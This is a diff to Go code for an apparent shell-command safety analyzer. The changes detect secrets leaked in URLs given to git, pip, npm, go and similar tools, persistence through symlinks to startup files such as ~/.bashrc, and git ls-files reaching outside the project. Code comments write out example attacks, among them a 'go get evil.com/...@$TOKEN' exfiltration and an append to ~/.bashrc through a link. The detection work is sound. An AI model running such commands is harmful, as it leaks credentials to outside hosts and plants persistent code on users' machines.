@@ -758,6 +758,12 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		// the names of a search, not aimed at secrets by a glob (fd's
 		// pattern may be)
 		s.broadList = s.secretList && lb != "fd" && lb != "fdfind" && !hasFlag(args, "-g") && !hasLongAbbrev(args, "--glob", "--iglob")
+	case (lb == "realpath" || lb == "readlink" && hasShort(args, "fem") || lb == "ls" && hasShort(args, "d")) && f.safe != nil &&
+		len(operands(args, nil)) == 1 && !args[operands(args, nil)[0]].dyn && !hasGlob(args[operands(args, nil)[0]].val):
+		// f=$(realpath ~/.bashrc); echo … >> "$f": the output is the path
+		if r := a.pathWord(args[operands(args, nil)[0]], sc, false); r.known {
+			s.out = &stdinSrc{text: r.abs + "\n", known: true}
+		}
 	case lineFilters[lb] && f.safe != nil && len(operands(args, nil)) <= 1 && a.stdin != nil && a.stdin.projList:
 		// head, sort, grep PATTERN … keep a subset of the lines they read
 		s.projList = lb != "grep" && lb != "rg" || len(operands(args, nil)) == 1 && !hasShort(args, "o")
@@ -775,8 +781,45 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		if w.taint && s.net || w.secretName != "" && s.net && secretOffService(w.secretName, a.hostsOf(idx)) {
 			f.floor = reason("floor.exfil", "a secret or the environment is sent to the network")
 		}
+		// git clone, pip install -i, npm i URL fetch the URL they are given:
+		// a token in it goes to that host as surely as with curl
+		if w.secretName != "" && urlFetchers[lb] {
+			h := urlHost(w.val)
+			if p, _, _ := strings.Cut(w.val, "/"); h == "" && lb == "go" && strings.Contains(p, ".") {
+				h = p // go get evil.com/m@$TOKEN: a module path starts with its host
+			}
+			if h != "" && secretOffService(w.secretName, []string{h}) {
+				f.floor = reason("floor.exfil", lb+" sends a secret to another service's host in a URL")
+			}
+		}
 	}
 	return s
+}
+
+// urlFetchers are package managers and VCS tools that fetch a URL operand
+// or option value.
+var urlFetchers = map[string]bool{"git": true, "pip": true, "pip3": true, "uv": true, "pipx": true, "poetry": true, "npm": true,
+	"pnpm": true, "yarn": true, "bun": true, "go": true, "cargo": true, "gem": true, "bundle": true, "composer": true,
+	"helm": true, "docker": true, "podman": true, "svn": true, "hg": true, "brew": true}
+
+// urlHost is the host of a URL inside v (scheme://[user@]host[:port]/…,
+// or git's user@host:path), or "".
+func urlHost(v string) string {
+	if i := strings.Index(v, "://"); i >= 0 {
+		v = v[i+3:]
+		v, _, _ = strings.Cut(v, "/")
+		if j := strings.LastIndexByte(v, '@'); j >= 0 {
+			v = v[j+1:]
+		}
+		v, _, _ = strings.Cut(v, ":")
+		return v
+	}
+	if at := strings.IndexByte(v, '@'); at > 0 {
+		if h, _, ok := strings.Cut(v[at+1:], ":"); ok && !strings.Contains(h, "/") {
+			return h
+		}
+	}
+	return ""
 }
 
 // hostsOf lists the hosts command idx connects to.
@@ -1175,10 +1218,17 @@ func (a *analyzer) copyMove(f *rfact, idx int, lb string, args []word, sc *scope
 				a.deleteWord(args[i], sc, idx, rmRecursive)
 			}
 			// moving or linking a secret to another name reads it there
-			if r := a.resolveMaybe(args[i], args[i].val, sc, false); a.sensitive(r) {
+			r := a.resolveMaybe(args[i], args[i].val, sc, false)
+			if a.sensitive(r) {
 				secret = true
 				a.add(&rfact{kind: protocol.FactRead, path: r, parent: idx,
 					human: reason("human.sensitive-read", lb+" gives a sensitive file another name")})
+			}
+			// a link to a startup file or hook is a second name that later
+			// writes go through (ln -s ~/.bashrc b; echo … >> b)
+			if lb == "ln" && (a.persistence(r) != "" || a.protectedWrite(r, false)) {
+				a.add(&rfact{kind: protocol.FactWrite, path: r, parent: idx,
+					human: reason("human.persistence-write", "ln gives a file that runs or guards commands a name that writes reach")})
 			}
 		default:
 			mid := len(a.facts)
@@ -3314,8 +3364,15 @@ loop:
 	}
 	switch sub {
 	case "push", "fetch", "pull", "clone", "ls-remote", "submodule", "send-email", "request-pull", "archive":
+		var hosts []string
 		for _, w := range args {
-			if w.taint {
+			if h := urlHost(w.val); h != "" {
+				hosts = append(hosts, h)
+			}
+		}
+		for _, w := range args {
+			// a token in the URL or an -c http.extraHeader goes to the URL's host
+			if w.taint || w.secretName != "" && secretOffService(w.secretName, hosts) {
 				g.floor = reason("floor.exfil", "a secret is sent to the network by git")
 			}
 		}
@@ -3675,6 +3732,12 @@ loop:
 	// git ls-files and --name-only print paths of the repository
 	lists := sub == "ls-files" || (sub == "diff" || sub == "show" || sub == "log") && hasFlag(rest, "--name-only")
 	s := summary{projList: lists && g.safe != nil && cwd != "" && within(cwd, a.env.Project)}
+	// git ls-files .., :/ or /abs lists the repository outside the project:
+	// not project names, but they may still be secrets (secretList below)
+	outside := sub == "ls-files" && slices.ContainsFunc(ops, func(o int) bool {
+		v := rest[o].val
+		return rest[o].dyn || strings.HasPrefix(v, ":") || !within(a.resolvePath(v, cwd, false).abs, a.env.Project)
+	})
 	// git ls-files '*.go': every pathspec a wildcard that cannot match a
 	// secret's name (a literal one names a directory, all files below it)
 	s.cleanList = s.projList && sub == "ls-files" && len(ops) > 0 && !slices.ContainsFunc(ops, func(o int) bool {
@@ -3688,6 +3751,9 @@ loop:
 	s.broadList = s.secretList && !hasFlag(rest, "-i", "--ignored") && !slices.ContainsFunc(ops, func(o int) bool {
 		return rest[o].dyn || patternMaySelectSecret(rest[o].val, true)
 	})
+	if outside {
+		s.projList, s.cleanList, s.broadList = false, false, false
+	}
 	return s
 }
 
